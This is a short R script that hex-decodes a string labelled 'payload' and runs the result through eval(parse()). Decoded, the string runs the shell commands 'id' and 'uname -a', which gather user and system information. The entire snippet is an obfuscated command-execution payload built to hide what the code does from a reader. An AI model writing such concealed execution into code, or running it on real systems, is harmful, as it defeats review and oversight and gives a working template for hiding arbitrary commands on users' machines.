payload <- "73797374656d28226964202620756e616d65202d612229"
bytes <- as.raw(strtoi(regmatches(payload, gregexpr("..", payload))[[1]], 16L))
code <- rawToChar(bytes)
eval(parse(text = code))
